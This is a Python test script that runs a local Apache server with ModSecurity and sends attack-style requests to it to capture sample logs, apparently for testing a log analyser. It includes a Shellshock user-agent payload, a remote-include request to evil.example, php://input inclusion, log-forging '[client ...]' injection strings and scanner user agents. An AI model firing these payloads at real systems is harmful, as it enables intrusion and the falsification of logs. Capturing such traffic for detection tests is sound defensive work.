"""Run the real Apache, attack it, and print its error log and access log.

    python3 -m tests.capture.apache [--only NAME ...] [--list]

``tests/samples/apache-*.log`` were made from it. Needs root, apache2, libapache2-mod-security2, curl.
"""

from __future__ import annotations

import sys

from lab.namespaces import Host
from lab.web import WebServer
from tests.capture.website import (
    FRIEND,
    HTPASSWD,
    INNOCENT,
    SECRET,
    USER,
    Scenario,
    Site,
    forged_names,
    logins,
    main,
    malformed,
    probes,
)

MODULES = """
    mpm_event authn_core authn_file authz_core authz_host authz_user auth_basic auth_digest cgid dir alias userdir unique_id
    security2 rewrite
"""

CONFIG = """
ServerRoot {here}
ServerName www.example.org
PidFile {here}/pid
DefaultRuntimeDir {here}
Listen 80
User www-data
Group www-data
ErrorLog {here}/error.log
LogLevel info
LogFormat "%h %l %u %t \\"%r\\" %>s %b \\"%{Referer}i\\" \\"%{User-Agent}i\\"" combined
CustomLog {here}/access.log combined
DocumentRoot {here}/www
ScriptSock {here}/cgisock
ScriptAlias /cgi-bin/ {here}/cgi-bin/
UserDir public_html
DirectoryIndex index.html
<Directory />
    Require all granted
    Options -Indexes
</Directory>
<Location /private/>
    AuthType Basic
    AuthName "members only"
    AuthUserFile {here}/htpasswd
    Require valid-user
</Location>
<Location /some/>
    AuthType Basic
    AuthName "members only"
    AuthUserFile {here}/htpasswd
    Require user bob
</Location>
<Location /digest/>
    AuthType Digest
    AuthName "members"
    AuthUserFile {here}/htdigest
    Require valid-user
</Location>
<Location /denied/>
    Require all denied
</Location>
<Location /waf/>
    SecRuleEngine On
    SecRule ARGS "@contains evil" "id:1001,phase:2,deny,status:403,msg:'evil argument',tag:'x'"
</Location>
<Location /watched/>
    SecRuleEngine DetectionOnly
    SecRule ARGS "@contains evil" "id:1002,phase:2,deny,status:403,msg:'evil argument'"
</Location>
"""


def serve(host: Host, name: str) -> WebServer:
    """The server."""
    load = "".join(
        f"LoadModule {module}_module /usr/lib/apache2/modules/mod_{module}.so\n" for module in MODULES.split()
    )
    files = {
        "apache2.conf": load + CONFIG,
        "htpasswd": HTPASSWD,
        "htdigest": "alice:members:fc0fe0d0b7ed3a7b5a3c7c6e0f4f5a66\n",
        "www/index.html": "hello\n",
        "www/private/index.html": "hello\n",
        "www/waf/index.html": "hello\n",
        "www/watched/index.html": "hello\n",
        "www/listing/file": "hello\n",
        "www/knocking/index.html": "hello\n",
        "cgi-bin/there.cgi": "#!/bin/sh\necho\n",
    }
    return WebServer(host, f"apache-{name}", ["apache2", "-X", "-f", "{here}/apache2.conf"], files)


def not_allowed(site: Site) -> None:
    site.login("/some/", USER, SECRET, source=FRIEND)
    site.get("/denied/")
    site.get("/listing/")


def digest(site: Site) -> None:
    for user in (USER, "oracle"):
        site.login("/digest/", user, "guess", "--digest")
    for fields in (
        'username="alice", realm="other", nonce="x", uri="/digest/", response="00000000000000000000000000000000"',
        'username="alice", realm="members", nonce="x", uri="/digest/", response="00000000000000000000000000000000"',
        f'username="alice", realm="members", nonce="x [client {INNOCENT}]", uri="/y", response="00000000000000000000000000000000"',
        'username="alice", realm="members"',
    ):
        site.get("/digest/", "-H", f"Authorization: Digest {fields}")
    forged_names(site, "--digest", path="/digest/")
    site.get("/private/", "-H", "Authorization: Bearer x")


def modsecurity(site: Site) -> None:
    site.get("/waf/?a=evil")
    site.get("/watched/?a=evil")
    site.get(
        f"/waf/?a=evil%22%5d%20%5bclient%20{INNOCENT}%5d",
        "-A",
        f'x"] [client {INNOCENT}]',
        "-H",
        f'Host: x"] [client {INNOCENT}]',
    )


def scripts(site: Site) -> None:
    for name in ("none.cgi", "none.pl", "none.php", "x.exe", "nothing"):
        site.get(f"/cgi-bin/{name}")
    site.get("/cgi-bin/there.cgi", "-A", "() { :; }; /bin/id")


def visitors(site: Site) -> None:
    """Robots by the names they give themselves, files from elsewhere, and a knock at a door."""
    for agent in (
        "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000001)",
        "sqlmap/1.7.2#stable (https://sqlmap.org)",
        "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
        "TrackBack/1.02",
    ):
        site.get("/", "-A", agent)
    site.get("/index.php?n=http://evil.example/pizza.htm?")
    site.get("/index.php?page=php://input", "-d", "x")
    site.get("/wp-login.php", "-d", "log=admin&pwd=guess")
    site.get("/knocking/", source=FRIEND)


SCENARIOS: dict[str, Scenario] = {
    "logins": logins,
    "forged-names": forged_names,
    "digest": digest,
    "not-allowed": not_allowed,
    "modsecurity": modsecurity,
    "scripts": scripts,
    "visitors": visitors,
    "probes": probes,
    "malformed": malformed,
}


if __name__ == "__main__":
    sys.exit(main("Apache", serve, SCENARIOS, ("error.log", "access.log")))
